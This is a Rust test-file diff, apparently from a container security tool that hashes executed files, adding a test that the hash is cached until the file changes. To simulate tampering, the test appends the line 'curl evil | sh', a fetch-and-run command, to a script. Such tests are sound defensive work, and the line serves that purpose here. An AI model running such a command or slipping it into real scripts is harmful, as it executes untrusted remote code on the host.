@@ -318,10 +318,8 @@ fn hashing_resolves_symlinks_inside_the_process_root_and_checks_the_inode() {
         assert_eq!((h3.via, &h3.sha256), ("exe", &h.sha256));
     }
     // bounded: a limit below the size refuses to hash
-    let small = ProcFiles {
-        proc: PathBuf::from("/proc"),
-        max_bytes: 1024,
-    };
+    let mut small = ProcFiles::new(Path::new("/proc"));
+    small.max_bytes = 1024;
     let err = small
         .hash_executed(
             &exec(pid, copy.to_str().unwrap(), ino, FileOrigin::NotOverlay),
@@ -808,4 +806,41 @@ fn a_script_is_judged_by_its_content_and_its_interpreter_by_its_own() {
         "{from_upper:?}"
     );
     drop(child);
+}
+
+#[test]
+fn a_file_is_hashed_once_while_it_is_unchanged() {
+    let t = tempfile::tempdir().unwrap();
+    let upper = t.path().join("upper");
+    put(&upper.join("usr/bin/tool"), b"#!/bin/sh\necho 1\n", 0o755);
+    let mut c = container("web");
+    c.overlay = Some(OverlayRoot {
+        lower: vec![],
+        upper: Some(upper.clone()),
+    });
+    // pid 0: nothing under /proc, the file is read from the upper layer
+    let e = exec(0, "/usr/bin/tool", 5, FileOrigin::Upper);
+    let files = ProcFiles::new(Path::new("/proc"));
+    let first = files.hash_executed(&e, &c).unwrap();
+    assert_eq!((first.via, first.cached), ("upperdir", false));
+    let again = files.hash_executed(&e, &c).unwrap();
+    assert_eq!((again.cached, &again.sha256), (true, &first.sha256));
+    let shared = files.clone();
+    assert!(
+        shared.hash_executed(&e, &c).unwrap().cached,
+        "clones share the cache"
+    );
+    // a write changes the file's times: hashed again, with its new content
+    let mut f = fs::OpenOptions::new()
+        .append(true)
+        .open(upper.join("usr/bin/tool"))
+        .unwrap();
+    std::io::Write::write_all(&mut f, b"curl evil | sh\n").unwrap();
+    drop(f);
+    let changed = files.hash_executed(&e, &c).unwrap();
+    assert!(!changed.cached);
+    assert_eq!(
+        changed.sha256,
+        sha256(b"#!/bin/sh\necho 1\ncurl evil | sh\n")
+    );
 }
